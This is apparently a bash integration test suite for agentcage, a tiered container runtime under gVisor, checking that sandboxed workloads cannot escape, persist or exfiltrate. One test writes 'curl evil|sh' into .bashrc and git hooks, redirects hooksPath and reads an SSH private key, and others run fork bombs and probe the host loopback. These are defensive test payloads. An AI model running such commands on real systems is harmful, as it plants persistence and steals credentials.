# Tiers under gVisor (issue 25): io.agentcage.kernel=gvisor or the
# operator's kernel-for-tier puts gVisor's user-space kernel (runsc) between
# the workload and the host's, with agentcage's cage on top. The tier attack
# tests that apply run again with every tiered attack under gVisor.

source "$IT_DIR/tiers_lib.sh"

# gVisor's gofer opens the container's files on the host as the
# container's root (an unprivileged id): the runtime binds the rootfs and
# every source into the sandbox's own reachable folder, so the test's
# folder (state root, bundles, bind sources) stays 0700, as an engine's
# image store and state root are
gv_setup() { chmod 700 "$T"; }
# what uname(2) answers inside gVisor (Debian's runsc 2022-12-19): its own
# kernel's version, never the host's
GV_UNAME="#1 SMP Sun Jan 10 15:06:54 PST 2016"

# sandbox_alive PID: a process that has not exited (a zombie waiting for
# this machine's init to reap it has)
sandbox_alive() { [ -d "/proc/$1" ] && ! grep -q '^State:.*Z' "/proc/$1/status" 2>/dev/null; }

# the attack tests of tiers_attacks.sh, sourced when a test runs (sourced
# here, the runner would list them twice)
gv_attacks() { gv_setup; source "$IT_DIR/tests/tiers_attacks.sh"; ATTACK_KERNEL=gvisor; }

test_gvisor_kernel_serves_the_syscalls() {
    gv_setup
    # uname(2): the host's answer without gVisor, gVisor's with it (the
    # kernel log, syslog(2), is refused by every tier's filter, inside
    # gVisor too)
    attack 1 /bin/sh -c 'uname -r; uname -v'
    assert_eq "$RC" 0 "namespace tier: $OUT"
    assert_contains "$OUT" "$(uname -r)" "the host kernel answers at a namespace tier"
    assert_not_contains "$OUT" "$GV_UNAME" "namespace tier"
    local t
    for t in 0 1 2 3; do
        ATTACK_KERNEL=gvisor attack $t /bin/sh -c 'uname -r; uname -v; cat /proc/version'
        assert_eq "$RC" 0 "tier $t under gVisor: $OUT"
        assert_contains "$OUT" "$GV_UNAME" "tier $t: gVisor's kernel answers uname(2)"
        assert_not_contains "$OUT" "$(uname -r)" "tier $t: the host's kernel release"
    done
    grep -q '"event":"container-created"' "$T/state/audit.jsonl" || fail "no container-created in the audit trail"
}

# The tier's seccomp allow-list holds inside gVisor too (runsc
# --oci-seccomp with the tier's filter as the config's profile): system
# calls gVisor's kernel would serve (ptrace of a child, a new user or
# mount namespace) fail with EPERM; a bundle's own profile only narrows it,
# a permissive one lifts nothing.
test_gvisor_tier_seccomp_inside() {
    gv_setup
    local script='/bin/probe syscall ptrace; /bin/probe syscall unshare-user; /bin/probe syscall unshare; echo end'
    # without the tier's filter (a namespace container with no seccomp): gVisor-like calls succeed
    attack plain /bin/sh -c "$script"
    assert_eq "$(echo "$OUT" | head -1)" ok "plain: ptrace of a child"
    local own
    for own in none allow-all; do
        ATTACK_KERNEL=gvisor attack 1 /bin/sh -c "$script"
        [ $own == allow-all ] && { cfg '.linux.seccomp = {"defaultAction": "SCMP_ACT_ALLOW"}'; OUT="$(rt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; }
        assert_contains "$OUT" end "tier 1 under gVisor ran ($own): $OUT"
        assert_eq "$(echo "$OUT" | head -3 | tr '\n' ' ')" "EPERM EPERM EPERM " "tier 1 under gVisor, bundle profile $own"
    done
    # a bundle's profile that refuses what the tier allows narrows it
    ATTACK_KERNEL=gvisor attack 1 /bin/probe syscall mkdir /workspace/d
    assert_eq "$OUT" ok "tier 1 under gVisor: mkdir"
    cfg '.linux.seccomp = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO"}]}'
    OUT="$(rt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"
    assert_eq "$OUT" EPERM "tier 1 under gVisor with a profile that refuses mkdir"
}

# ---------------------------------------------------------------- the tier attacks under gVisor

# the root fs, a tier-0 project mount, credentials under a mounted home,
# rc files and git hooks of a writable one: as at the namespace tiers
test_gvisor_write_root_fs() { gv_attacks; test_write_root_fs; }
# a tier-0 project mount is read-only under gVisor too
test_gvisor_project_mounts() {
    gv_attacks
    mkdir -p "$T/proj" && echo original > "$T/proj/file"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/proj" rw)")
    attack plain /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new'
    assert_eq "$(cat "$T/proj/file")" evil "plain writes through a rw bind"
    echo original > "$T/proj/file"; rm -f "$T/proj/new"
    attack 0 /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new; /bin/probe mkdir /mnt/a/d; rm -f /mnt/a/file; echo done'
    assert_contains "$OUT" done "tier 0 ran: $OUT"
    assert_eq "$(cat "$T/proj/file")" original "tier 0: host file unchanged"
    [ -e "$T/proj/new" ] || [ -e "$T/proj/d" ] && fail "tier 0 created a file on the host"
    return 0
}

# A writable host folder under gVisor is the same capped overlay as at the
# namespace tiers (runsc cannot idmap a bind; the runtime idmaps the
# overlay's lower layer): writes keep the folder owner's ids, stop at the
# cap, come back at delete, and a killed container's stay for review.
gv_userns() { gv_setup; source "$IT_DIR/tests/tiers_userns.sh"; ATTACK_KERNEL=gvisor; }
# a read-only bind is not idmapped under gVisor: the owner's 0600 file
# stays unread at tier 0 (never read as host root)
test_gvisor_writes_through_a_project_mount_keep_the_owner() { gv_userns; test_writes_through_a_project_mount_keep_the_owner; }
test_gvisor_disk_balloon_stops_at_the_cap() { gv_userns; test_disk_balloon_in_a_writable_project_stops_at_the_cap; }
test_gvisor_writes_are_copied_back() { gv_userns; test_writes_through_a_capped_project_are_copied_back; }
test_gvisor_changes_of_a_killed_container_are_kept_for_review() {
    gv_userns; test_changes_of_a_killed_container_are_kept_for_review
}

# rc files and git hooks of a writable home stay read-only, even where the
# folders' modes would let the container's id write them
test_gvisor_rc_files_and_git_hooks() {
    gv_attacks
    plant_home "$T/home"
    chmod -R a+rwX "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    local script='
        echo "curl evil|sh" >> /home/agent/.bashrc
        echo "curl evil|sh" > /home/agent/.git/hooks/pre-commit
        echo "[core] hooksPath=/tmp" >> /home/agent/.git/config
        echo "curl evil|sh" > /home/agent/proj/.git/hooks/pre-commit
        cat /home/agent/.ssh/id_rsa
        echo end'
    attack plain /bin/sh -c "$script"
    assert_contains "$(cat "$T/home/.bashrc")" evil "plain writes .bashrc"
    rm -rf "$T/home"; plant_home "$T/home"; chmod -R a+rwX "$T/home"
    local before; before="$(tree_sum "$T/home")"
    local t
    for t in 1 3; do
        attack $t /bin/sh -c "$script"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_not_contains "$OUT" FAKE-PRIVATE-KEY "tier $t read the ssh key"
        assert_eq "$(tree_sum "$T/home")" "$before" "tier $t changed the home on the host"
        attack $t /bin/probe write /home/agent/proj/notes.txt
        assert_eq "$OUT" ok "tier $t writes an ordinary file in a folder of the home"
        rm -f "$T/home/proj/notes.txt"
    done
    return 0
}
test_gvisor_ssh_key_in_bind_mounted_home() { gv_attacks; test_ssh_key_in_bind_mounted_home; }
# no network at tiers 0-1, only the proxy at 2-3: the host's loopback is
# never reached, and the proxy refuses it as a destination
test_gvisor_host_loopback_tcp_udp() { gv_attacks; test_host_loopback_tcp_udp; }
test_gvisor_tier2_proxy_refuses_host_loopback() { gv_attacks; test_tier2_proxy_refuses_host_loopback; }
# the host's /proc/sys and /sys are not the container's to write
test_gvisor_proc_sys_and_sys_writes() { gv_attacks; test_proc_sys_and_sys_writes; }
# limits on the whole sandbox; the watchdog's timeout
# gVisor counts the workload's processes in its own kernel, which has no
# pids limit of its own; the host's cgroup limit holds for the sandbox, and
# a fork loop that reaches it ends the sandbox (its kernel cannot make a
# thread), never more host tasks
test_gvisor_fork_loop() {
    gv_attacks
    attack plain /bin/probe fork-bomb 150
    assert_eq "$OUT" "forked 150" "plain forks"
    local t
    for t in 1 3; do
        attack $t /bin/sh -c '/bin/probe fork-bomb 150; echo end'
        assert_not_contains "$OUT" "forked 150" "tier $t under gVisor forked 150"
        [ -e "$ROOT/$CID" ] && fail "tier $t: state left"
    done
    # a loop that stays below the limit runs, with its workload's processes
    attack 1 /bin/probe fork-bomb 20
    assert_eq "$OUT" "forked 20" "tier 1 under gVisor: 20 processes"
    return 0
}
test_gvisor_memory_balloon() { gv_attacks; test_memory_balloon; }
test_gvisor_timeout_kills() { gv_attacks; test_timeout_kills; }
# the environment's allow-list; tier 3's approval gate
test_gvisor_secret_env_scrubbed() { gv_attacks; test_secret_env_scrubbed; }
test_gvisor_tier3_needs_approval() {
    gv_attacks
    test_tier3_needs_approval
    grep '"event":"container-created"' "$T/state/audit.jsonl" | grep -q '"kernel":"gvisor"' ||
        fail "the audit trail does not say the container ran under gVisor"
}

# ---------------------------------------------------------------- the network at tiers 2-3

# The proxy is the sandbox's only way out: gVisor runs with runsc's host
# network inside the sandbox's own network namespace, which has lo and
# nothing else; the proxy listens there (127.0.0.1:3128) and connects out
# from the host. Allowed hosts pass, others are refused and audited, and
# neither the host's loopback nor any other address is reachable directly.
test_gvisor_egress_through_the_proxy_only() {
    gv_setup
    source "$IT_DIR/egress_lib.sh"
    eh_upstreams; eh_hooks_dir
    local t
    for t in 2 3; do
        local id; id="$(new_id)"
        local ann='{"io.agentcage.kernel": "gvisor"}'
        if [ $t == 3 ]; then
            # the bundle eh_start makes, approved before its create
            make_bundle "$id" /bin/sleep 600
            cfg --arg allow "allowed.test:$HTTP_PORT,allowed.test:$SINK_PORT,other.test:$SINK_PORT,allowed.test:$VHOST_PORT" \
                --arg xbin "$T/xbin" --argjson extra "$ann" \
                '.annotations = ({"io.agentcage.tier": "3", "io.agentcage.egress": $allow} + $extra)
                 | .mounts += [{destination: "/xbin", type: "bind", source: $xbin, options: ["rbind", "ro"]}]'
            ok ert approve "$id" --bundle "$BUNDLE"
        fi
        EH_TIER=$t eh_start "$id" "" "$ann"
        local sandbox; sandbox="$(cpid "$id")"
        ein "$id" /bin/sh -c 'uname -v'
        assert_contains "$OUT" "$GV_UNAME" "tier $t runs under gVisor"
        eh_good "$id" "tier $t: an allowed host"
        eh_refused "$id" "GET http://unlisted.test:$HTTP_PORT/ HTTP/1.1\r\nHost: unlisted.test:$HTTP_PORT\r\n\r\n" "403 Forbidden" "host not in allowlist"
        # the sandbox's network namespace, seen from the host: lo alone, no route
        local links; links="$(nsenter --net="/proc/$sandbox/ns/net" ip -o link show | awk -F': ' '{print $2}' | tr '\n' ' ')"
        assert_eq "$links" "lo " "tier $t: the sandbox's network namespace has only lo"
        assert_eq "$(nsenter --net="/proc/$sandbox/ns/net" ip route show)" "" "tier $t: routes in the sandbox's netns"
        # directly: the host's loopback services, and any routed address
        ein "$id" /bin/sh -c "/bin/probe connect 127.0.0.1 $HTTP_PORT; /bin/probe udp 127.0.0.1 53; /bin/probe connect 192.0.2.1 80; echo end"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_eq "$(echo "$OUT" | head -1)" ECONNREFUSED "tier $t: the host's upstream from the sandbox"
        assert_eq "$(echo "$OUT" | sed -n 3p)" ENETUNREACH "tier $t: an address beyond lo"
        eh_stop "$id"
    done
    eh_stop_upstreams
}

# ---------------------------------------------------------------- the verbs

# create, state, exec, ps, kill, pause, resume, update, events and delete of
# a container under gVisor, answered as runc answers them
test_gvisor_lifecycle_verbs() {
    gv_setup
    local id; id="$(new_id)"
    make_bundle "$id" /bin/sh -c 'trap "echo got-term > /workspace/term; exit 0" TERM; while :; do sleep 0.1; done'
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.kernel": "gvisor"} | .process.oomScoreAdj = 500'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$id" > "$T/$id.out" 2> "$T/$id.err" < /dev/null ||
        fail "create: $(cat "$T/$id.err")"
    local pid; pid="$(cpid "$id")"
    track_pid "$pid"
    assert_eq "$(cstatus "$id")" created "state after create"
    assert_eq "$(cat "/proc/$pid/oom_score_adj")" 500 "process.oomScoreAdj on the sandbox"
    assert_eq "$(jq -r .kernel "$ROOT/$id/state.json")" gvisor "state.json records the kernel"
    local sandbox_dir; sandbox_dir="$(readlink "$ROOT/$id/sandbox")"
    assert_match "$sandbox_dir" '^/run/agentcage-gvisor/' "the sandbox's folder"
    grep -qF "$sandbox_dir/rootfs" /proc/self/mountinfo || fail "no rootfs view in $sandbox_dir"
    [ "$(awk '$1 == "Uid:" {print $2}' "/proc/$pid/status")" -ge 1000000000 ] ||
        fail "the sandbox runs as host uid $(awk '$1 == "Uid:" {print $2}' "/proc/$pid/status")"
    ok rt start "$id"
    assert_eq "$(cstatus "$id")" running "state after start"
    # exec: gVisor's kernel answers, the tier's environment rules apply
    OUT="$(rt exec --env GITHUB_TOKEN=ghp_FAKE --env LANG=C "$id" /bin/sh -c 'uname -v; echo "$LANG${GITHUB_TOKEN:-}"; exit 5' 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 5 "exec's exit status"
    assert_contains "$OUT" "$GV_UNAME" "exec runs under gVisor"
    assert_contains "$OUT" "C" "exec keeps LANG"
    assert_not_contains "$OUT" ghp_FAKE "exec's credential variable"
    # descriptors beyond stdio cannot reach a process in gVisor: one line
    assert_exit 255 rt exec --preserve-fds 1 "$id" /bin/true
    assert_contains "$OUT" "runsc exec hands the process its stdio only" "exec --preserve-fds under gVisor"
    # detached exec with a pid file: the pid is a process of ours to wait for
    ok rt exec --detach --pid-file "$T/exec.pid" "$id" /bin/sleep 0.3
    [ -s "$T/exec.pid" ] || fail "no exec pid file"
    # ps: the workload's processes as gVisor sees them; --format json: the sandbox's host pids
    ok rt ps "$id"
    assert_match "$OUT" '^0 +1 +0 .* sh$' "ps lists the workload's processes as gVisor numbers them"
    ok rt ps --format json "$id"
    assert_contains "$OUT" "$pid" "ps json has the sandbox"
    # pause and resume freeze the whole sandbox; update and events act on its cgroup
    ok rt pause "$id"
    assert_eq "$(cstatus "$id")" paused "state after pause"
    ok rt resume "$id"
    assert_eq "$(cstatus "$id")" running "state after resume"
    ok rt update --memory 300m "$id"
    ok rt events --stats "$id"
    assert_contains "$OUT" '"type":"stats"' "events"
    # kill: the signal reaches the workload inside gVisor, which exits
    ok rt kill "$id" TERM
    wait_status "$id" stopped 10
    ok rt delete "$id"
    [ -e "$ROOT/$id" ] && fail "state left after delete"
    sandbox_alive "$pid" && fail "the sandbox outlived delete"
    [ -e "$sandbox_dir" ] && fail "the sandbox's folder $sandbox_dir outlived delete"
    grep -qF "$sandbox_dir" /proc/self/mountinfo && fail "a view of $sandbox_dir is still mounted"
    return 0
}

# ---------------------------------------------------------------- the choice and its refusals

test_gvisor_operator_kernel_for_tier() {
    gv_setup
    # the operator's kernel-for-tier: tier 3 runs under gVisor without asking
    CID="$(new_id)"
    make_bundle "$CID" /bin/sh -c 'uname -v'
    cfg '.annotations = {"io.agentcage.tier": "3"}'
    ok trt --kernel-for-tier 3:gvisor policy show --bundle "$BUNDLE"
    assert_contains "$OUT" '"io.agentcage.kernel": "gvisor"' "the effective config names the kernel"
    assert_contains "$OUT" "# kernel: gVisor" "policy show prints the kernel"
    ok trt --kernel-for-tier 3:gvisor approve "$CID" --bundle "$BUNDLE"
    OUT="$(trt --kernel-for-tier 3:gvisor run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 0 "tier 3 under the operator's gVisor: $OUT"
    assert_contains "$OUT" "$GV_UNAME" "tier 3 under the operator's gVisor"
    # the same from agentcage.conf
    printf 'kernel-for-tier = 3:gvisor\nrunsc-platform = ptrace\n' > "$T/agentcage.conf"
    OUT="$(AGENTCAGE_CONF="$T/agentcage.conf" trt policy show --bundle "$BUNDLE" 2>&1)"
    assert_contains "$OUT" "# kernel: gVisor" "kernel-for-tier in agentcage.conf"
    # without: the host's kernel, and policy show says so
    ok trt policy show --bundle "$BUNDLE"
    assert_contains "$OUT" "# kernel: the host's" "policy show without gVisor"
    # a bundle may not drop the boundary the operator requires
    cfg '.annotations["io.agentcage.kernel"] = "linux"'
    OUT="$(trt --kernel-for-tier 3:gvisor run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_refused "io.agentcage.kernel=linux"
    # nor write a kernel that does not exist
    cfg '.annotations["io.agentcage.kernel"] = "kata"'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_refused "io.agentcage.kernel: expected gvisor or linux"
    # bad operator values: one line naming the flag
    assert_exit 1 trt --kernel-for-tier 3:kvm policy show --tier 3
    assert_contains "$OUT" "--kernel-for-tier" "bad kernel-for-tier"
    assert_exit 1 trt --runsc-platform vmx policy show --tier 3
    assert_contains "$OUT" "--runsc-platform" "bad platform"
    assert_exit 1 trt --runsc relative/runsc policy show --tier 3
    assert_contains "$OUT" "--runsc" "relative runsc path"
}

# never without the boundary: no runsc, a runsc that is not root's alone, a
# platform that cannot boot here are each one line, and nothing is left
test_gvisor_missing_or_broken_runsc_refused() {
    gv_setup
    local devnull_owner; devnull_owner="$(stat -c %u:%g /dev/null)"
    local runsc_cgroups; runsc_cgroups="$(ls -d /sys/fs/cgroup/*/runsc-* 2>/dev/null | sort)"
    local variant
    cp /usr/bin/runsc "$T/runsc-writable" && chmod 777 "$T/runsc-writable"
    for variant in "--runsc $T/no-such-runsc:is missing" "--runsc $T/runsc-writable:not root's alone" \
                   "--runsc-platform kvm:self-check failed"; do
        local flags="${variant%%:*}" want="${variant#*:}"
        ATTACK_KERNEL=gvisor attack 1 /bin/echo ran
        # attack ran with the default runsc; now the same bundle with the broken one
        OUT="$(trt $flags run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
        assert_refused "$want"
        assert_not_contains "$OUT" ran "ran without gVisor ($flags)"
    done
    grep -q '"event":"refused".*runsc' "$T/state/audit.jsonl" || fail "no refusal in the audit trail"
    # the self-checks (runsc do: its sandbox runs as nobody and chowns its
    # stdio) never re-owned the host's /dev/null
    assert_eq "$(stat -c %u:%g /dev/null)" "$devnull_owner" "the host's /dev/null keeps its owner"
    # nor left a cgroup of runsc's own (a sandbox that fails to boot did)
    assert_eq "$(ls -d /sys/fs/cgroup/*/runsc-* 2>/dev/null | sort)" "$runsc_cgroups" "no runsc-* cgroup left"
}

# Task-scoped credentials under gVisor: the secret is a read-only file at
# /run/secrets (a tmpfs on the host that gVisor's gofer serves, the
# container root's, mode 0400), never in the environment or the state;
# gone inside at its ttl, revoked at the broker; delete leaves nothing.
test_gvisor_credentials() {
    gv_setup
    source "$IT_DIR/tests/tiers_secrets.sh"
    broker_conf
    CID="$(new_id)"; make_bundle "$CID" /bin/true
    cfg '.process.args = ["/bin/sh", "-c", "cat /run/secrets/gh; echo; ls -ln /run/secrets; (echo x > /run/secrets/gh) 2>/dev/null && echo written; cat /proc/self/environ | tr \"\\0\" \"\\n\"; sleep 5; cat /run/secrets/gh 2>/dev/null || echo gone"]'
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.kernel": "gvisor", "io.agentcage.credentials": "gh=3s"}'
    run_with_a_short_credential
    assert_not_contains "$OUT" written "the secret's file is read-only"
    ok trt delete "$CID"
    [ -e "$ROOT/$CID" ] && fail "state left after delete"
    grep -qF "$ROOT/$CID/secrets" /proc/self/mountinfo && fail "the secrets' tmpfs is still mounted"
    assert_eq "$(grep -c "revoke $CID" "$T/broker/gh.log")" 1 "revoked once"
    return 0
}

# a sandbox folder whose container's state went without a delete (an
# engine that removed its state root) is swept by the next create; a young
# one (a create between its mkdtemp and its link) is not
test_gvisor_stale_sandbox_folders_swept() {
    gv_setup
    local stale=/run/agentcage-gvisor/it-stale-$TEST_ID young=/run/agentcage-gvisor/it-young-$TEST_ID
    mkdir -p /run/agentcage-gvisor "$stale/rootfs" "$young"
    echo "$T/gone/sandbox" > "$stale/owner"
    touch -d '2 minutes ago' "$stale"
    ATTACK_KERNEL=gvisor attack 1 /bin/echo ran
    assert_eq "$OUT" ran "tier 1 under gVisor"
    [ -e "$stale" ] && fail "the stale sandbox folder was not swept"
    [ -d "$young" ] || fail "a young sandbox folder was swept"
    rmdir "$young"
}

# ---------------------------------------------------------------- a pod is one sandbox

# gv_pod_sandbox TIER [EGRESS]: a pod's sandbox (pause) container under gVisor,
# created and started as containerd's CRI does it: $POD its id
gv_pod_sandbox() {
    POD="$(new_id)"
    make_bundle "$POD" /bin/sleep 600
    cfg --arg id "$POD" --arg t "$1" --arg eg "${2:-}" '.annotations = ({"io.agentcage.tier": $t,
        "io.agentcage.kernel": "gvisor", "io.kubernetes.cri.container-type": "sandbox",
        "io.kubernetes.cri.sandbox-id": $id} + (if $eg == "" then {} else {"io.agentcage.egress": $eg} end))'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$POD" > /dev/null 2> "$T/$POD.err" < /dev/null ||
        fail "the pod's sandbox: $(cat "$T/$POD.err")"
    track_pid "$(cpid "$POD")"
    ok rt start "$POD"
}
# gv_pod_member ID TIER CMD...: the bundle of a pod's container of $POD, in the
# pod's network namespace as containerd's CRI gives it
gv_pod_member() {
    local id="$1" t="$2"; shift 2
    make_bundle "$id" "$@"
    cfg --arg pod "$POD" --arg t "$t" --arg net "/proc/$(cpid "$POD")/ns/net" '.annotations = {
        "io.agentcage.tier": $t, "io.agentcage.kernel": "gvisor", "io.kubernetes.cri.container-type": "container",
        "io.kubernetes.cri.sandbox-id": $pod}
        | .linux.namespaces = [.linux.namespaces[] | if .type == "network" then . + {path: $net} else . end]'
}

# The pod's containers run inside the pod's one gVisor sandbox: the same
# gVisor kernel (its log, its process table, one sentry), each with its
# own root and the tier's cage; its output, exit status, exec, kill and
# the timeout work as for a single container; delete takes it out of the
# sandbox and leaves the pod running; nothing is left after the pod.
test_gvisor_pod_is_one_sandbox() {
    gv_setup
    gv_pod_sandbox 1
    local sandbox_pid; sandbox_pid="$(cpid "$POD")"
    local sandbox_dir; sandbox_dir="$(readlink "$ROOT/$POD/sandbox")"
    # a container of the pod: its output and exit status, inside the pod's kernel
    local app; app="$(new_id)"
    gv_pod_member "$app" 1 /bin/sh -c 'echo from-the-app; uname -v | grep -c "Jan 10 15:06:54 PST 2016"; ps -o comm | grep -c sleep; touch /x 2>/dev/null || echo read-only; exit 7'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 7 "the pod's container's exit status: $OUT"
    assert_eq "$(echo "$OUT" | head -1)" from-the-app "its output"
    assert_eq "$(echo "$OUT" | sed -n 3p)" 0 "a container of the pod sees its own processes, not the sandbox's"
    assert_contains "$OUT" read-only "its tier's read-only root"
    [ -e "$ROOT/$app" ] && fail "run left the pod's container's state"
    # created, started, exec'd, killed, deleted as engines do it, while the pod lives on
    gv_pod_member "$app" 1 /bin/sh -c 'trap "exit 0" TERM; echo started > /workspace/up; while :; do sleep 0.1; done'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$app" > "$T/$app.out" 2> "$T/$app.err" < /dev/null ||
        fail "create the pod's container: $(cat "$T/$app.err")"
    local keeper; keeper="$(cpid "$app")"
    track_pid "$keeper"
    assert_eq "$(cstatus "$app")" created "the pod's container after create"
    ok rt start "$app"
    assert_eq "$(cstatus "$app")" running "after start"
    # one sandbox: no second sentry, the container's kernel is the pod's
    assert_eq "$(jq -r .kernel "$ROOT/$app/state.json")" gvisor "state.json records the kernel"
    OUT="$(rt exec "$app" /bin/sh -c 'sleep 0.3; cat /workspace/up; uname -v | grep -c "Jan 10 15:06:54 PST 2016"' 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 0 "exec in the pod's container: $OUT"
    assert_eq "$(echo "$OUT" | head -1)" started "exec sees the container's own /workspace"
    assert_exit 1 rt pause "$app"
    assert_contains "$OUT" "the pod's one sandbox" "pause of a pod's container"
    ok rt kill "$app" TERM
    wait_status "$app" stopped 10
    ok rt delete "$app"
    [ -e "$ROOT/$app" ] && fail "state left after delete"
    sandbox_alive "$keeper" && fail "the keeper outlived delete"
    assert_eq "$(cstatus "$POD")" running "the pod's sandbox after its container's delete"
    # the tier's timeout: the watchdog kills the container inside the pod's sandbox
    local slow; slow="$(new_id)"
    gv_pod_member "$slow" 1 /bin/sleep 600
    cfg '.annotations["io.agentcage.timeout"] = "2s"'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$slow" > /dev/null 2> "$T/$slow.err" < /dev/null ||
        fail "create the slow container: $(cat "$T/$slow.err")"
    track_pid "$(cpid "$slow")"
    ok rt start "$slow"
    wait_status "$slow" stopped 15
    [ -e "$ROOT/$slow/timeout" ] || fail "no timeout marker"
    local i inside
    for i in $(seq 50); do
        inside="$(runsc --root "$sandbox_dir" state "$slow" 2> /dev/null | jq -r .status)"
        [ "$inside" == stopped ] && break
        sleep 0.1
    done
    assert_eq "$inside" stopped "the container inside gVisor after its timeout"
    ok rt delete "$slow"
    assert_eq "$(cstatus "$POD")" running "the pod's sandbox after its container's timeout"
    # the pod's end: nothing left
    ok rt kill "$POD" KILL
    wait_status "$POD" stopped 10
    ok rt delete "$POD"
    sandbox_alive "$sandbox_pid" && fail "the sandbox outlived delete"
    [ -e "$sandbox_dir" ] && fail "the sandbox's folder $sandbox_dir outlived delete"
    return 0
}

# A container joins only the live gVisor sandbox of its pod, with its
# network, and a pod runs on one kernel: each variant is one line naming
# why, and leaves nothing behind.
test_gvisor_pod_members_refused() {
    gv_setup
    gv_pod_sandbox 1
    local app; app="$(new_id)"
    CID="$app"
    # a sandbox id that names nothing, or a container that is not a pod's sandbox
    gv_pod_member "$app" 1 /bin/echo ran
    cfg '.annotations["io.kubernetes.cri.sandbox-id"] = "no-such-pod"'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_refused "is not a live pod sandbox agentcage runs under gVisor"
    local single; single="$(new_id)"
    make_bundle "$single" /bin/sleep 600
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.kernel": "gvisor"}'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$single" > /dev/null 2>&1 < /dev/null || fail "create $single"
    track_pid "$(cpid "$single")"
    gv_pod_member "$app" 1 /bin/echo ran
    cfg --arg s "$single" '.annotations["io.kubernetes.cri.sandbox-id"] = $s | del(.linux.namespaces[] | select(.type == "network") | .path)'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_refused "is not a live pod sandbox agentcage runs under gVisor"
    ok rt delete --force "$single"
    # another network: a tier-2 container in a tier-1 pod
    gv_pod_member "$app" 2 /bin/echo ran
    cfg '.annotations["io.agentcage.egress"] = "example.com:443"'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_refused "has another network"
    # one kernel per pod: a namespace-tier container in a gVisor pod
    gv_pod_member "$app" 1 /bin/echo ran
    cfg '.annotations["io.agentcage.kernel"] = "linux"'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_refused "a pod is one sandbox"
    [ -e "$ROOT/$app" ] && fail "a refused container left its state"
    ok rt kill "$POD" KILL
    wait_status "$POD" stopped 10
    ok rt delete "$POD"
    # and a gVisor container in a namespace-tier pod
    local ns_pod; ns_pod="$(new_id)"
    make_bundle "$ns_pod" /bin/sleep 600
    cfg '.annotations = {"io.agentcage.tier": "1", "io.kubernetes.cri.container-type": "sandbox"}'
    "$RUNTIME" --root "$ROOT" create --bundle "$BUNDLE" "$ns_pod" > /dev/null 2>&1 < /dev/null || fail "create $ns_pod"
    track_pid "$(cpid "$ns_pod")"
    POD="$ns_pod" gv_pod_member "$app" 1 /bin/echo ran
    cfg --arg p "$ns_pod" '.annotations["io.kubernetes.cri.sandbox-id"] = $p'
    OUT="$(rt run --bundle "$BUNDLE" "$app" 2>&1 < /dev/null)"; RC=$?
    assert_refused "a pod is one sandbox"
    ok rt delete --force "$ns_pod"
    local o
    for o in /run/agentcage-gvisor/*/owner; do
        [ -e "$o" ] && grep -qF "$T/" "$o" && fail "a sandbox folder of this test is left: $o"
    done
    return 0
}
